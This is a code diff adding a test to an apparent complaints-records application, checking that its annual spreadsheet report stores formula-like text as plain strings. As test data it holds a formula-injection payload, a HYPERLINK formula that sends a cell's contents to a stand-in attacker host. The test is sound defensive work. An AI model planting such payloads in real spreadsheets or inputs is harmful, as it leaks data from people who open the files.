@@ -89,3 +89,21 @@ def test_sheet_names_keep_to_31_characters_and_stay_unique():
 
     assert all(len(name) <= 31 for name in names.values())
     assert len(set(names.values())) == 2
+
+
+def test_text_that_looks_like_a_formula_is_written_as_text(db):
+    """An action's task typed as "=HYPERLINK(...)" is a string in the workbook, not a live formula."""
+    from datetime import date
+
+    from complaints.records.models import Action
+    from complaints.reports.annual import build
+
+    task = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open the plan")'
+    Action.objects.create(number=1, task=task, owners="=1+1", starts_on=date(2022, 4, 1),
+                          intended_outcome="Better letters", target_on=date(2022, 9, 30))
+
+    sheet = load_workbook(BytesIO(render_xlsx(build("2022-23"))))["actions"]
+
+    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value in (task, "=1+1")}
+    assert set(cells) == {task, "=1+1"}
+    assert all(cell.data_type == "s" for cell in cells.values())
